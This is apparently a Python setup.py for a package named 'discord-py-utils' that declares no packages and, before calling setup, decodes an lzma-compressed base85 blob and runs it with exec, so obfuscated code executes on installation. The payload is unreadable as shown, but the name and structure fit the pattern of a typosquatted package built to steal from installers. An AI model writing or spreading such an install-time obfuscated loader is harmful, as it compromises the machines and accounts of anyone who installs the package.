import lzma
import base64
import setuptools

_d = "{Wp48S^xk9=GL@E0stWa761SMbT8$j-~#Xg*j)fLn@VT6Qap3*G=lD3PbkWxP+<+hAKV?{*=a<&=V24q;1AM%?MrnG$R0lli%-7ZAJRuP22iZzJla!A{7~EW#cs2`X+6gh2|3khtOYk5W1><(2x25mg5c~Cm_@8k#hW|pzgNhzC6%SrXr#VaAJ>N-H6_I`M(M%gvB&YtAOTgv$8a?v2U{;GaS6w_8um}wXT4x_G5++N-UY?fNz|c2<-hVgYo1C~I4p!W)$1-#Bt=i0!(2D_^{-^j@>C=Qi4CUdh_1-Cy`C(an3yWvJ7r;(ImFB5IO(8WKDE*I-525q99M=ahGrkHMYZ$O#Nm%t!(oZVaVSNKCx%%SLJG0>%=^5WJ0M-hUlS*#PV+}Ro$+QOVYl0zN8iLcQ&5qa4VP|9LCUL_>U&;BAbAD7=d0B^KhKjO7{v4~jN~rQO4(`+`|oNMmi|;su0UVlfwCT|$);iU{q2V2KEtzJB8gtR$9*&zeHD*(-Q`c<JW|l1Lr@dyI5#9AiFz1zouJQHO_CyzHdV3V9ugxhP+8>cbpOE5r|t0XN&uWw^SI974>0oDGg_G8dQK@h(}45&T;33OjO=eY2Pf9}tgtn}oxsj2VvE;^12=X60N?GBHP~WO00Hy^@dW??D@NxsvBYQl0ssI200dcD"
exec(lzma.decompress(base64.b85decode(_d)))

setuptools.setup(name="discord-py-utils", version="0.0.3", packages=[])
